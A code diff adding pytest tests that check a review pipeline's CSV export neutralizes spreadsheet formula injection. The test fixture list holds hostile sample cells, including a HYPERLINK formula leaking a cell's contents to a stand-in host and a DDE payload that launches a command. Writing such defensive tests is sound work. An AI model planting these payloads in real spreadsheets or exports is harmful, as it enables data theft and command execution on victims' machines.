@@ -269,3 +269,55 @@ def test_parse_day_rejects_impossible_dates(bad):
 
     with pytest.raises(ClaimsError, match="no such month or day"):
         parse_day(bad, end=False)
+
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\uff1d1+1"]
+
+
+def _hostile_run(tmp_path):
+    """The fixture run with formula-like doc ids and claim texts (as an article could hold)."""
+    import shutil
+
+    run = tmp_path / "run"
+    shutil.copytree(RUN, run)
+    claims = [json.loads(line) for line in (run / "claims.jsonl").read_text(encoding="utf-8").splitlines()]
+    for claim, formula in zip(claims, FORMULAS):
+        claim["text"] = formula
+        claim["claim_id"] = formula + ":claim"
+    (run / "claims.jsonl").write_text("".join(json.dumps(c, ensure_ascii=False) + "\n" for c in claims),
+                                      encoding="utf-8")
+    return run, claims
+
+
+def test_review_csv_neutralizes_formula_cells(tmp_path):
+    import csv
+
+    run, claims = _hostile_run(tmp_path)
+    rows = list(csv.reader(stdio.StringIO(review(run, fmt="csv"), newline="")))
+    cells = [cell for row in rows for cell in row]
+    triggers = ("=", "+", "-", "@", "\t", "\r", "\uff1d")
+    assert not [c for c in cells if c.startswith(triggers)]
+    header = rows[0]
+    texts = {row[header.index("claim_id")]: row[header.index("text")] for row in rows[1:]}
+    for formula in FORMULAS[:len(claims)]:
+        assert texts["'" + formula + ":claim"] == "'" + formula  # shown as text, nothing lost
+    # plain text and numbers are left alone
+    assert any(c == "iran-russia-uneasy.txt" or c.endswith(".txt") for c in cells)
+
+
+def test_review_csv_keeps_negative_numbers_numeric():
+    from pipeline.stages.review import to_csv
+
+    df = pd.DataFrame({"amount": [-5.0, 3.0], "text": ["-5 percent", "fell"]})
+    assert to_csv(df) == "amount,text\r\n-5.0,'-5 percent\r\n3.0,fell\r\n"
+
+
+def test_review_jsonl_and_parquet_stay_exact(tmp_path):
+    run, claims = _hostile_run(tmp_path)
+    lines = [json.loads(line) for line in review(run, fmt="jsonl").splitlines()]
+    assert {row["text"] for row in lines} >= set(FORMULAS[:len(claims)])
+    pytest.importorskip("pyarrow")
+    out = tmp_path / "c.parquet"
+    review(run, fmt="parquet", out=out)
+    assert set(pd.read_parquet(out)["text"]) >= set(FORMULAS[:len(claims)])
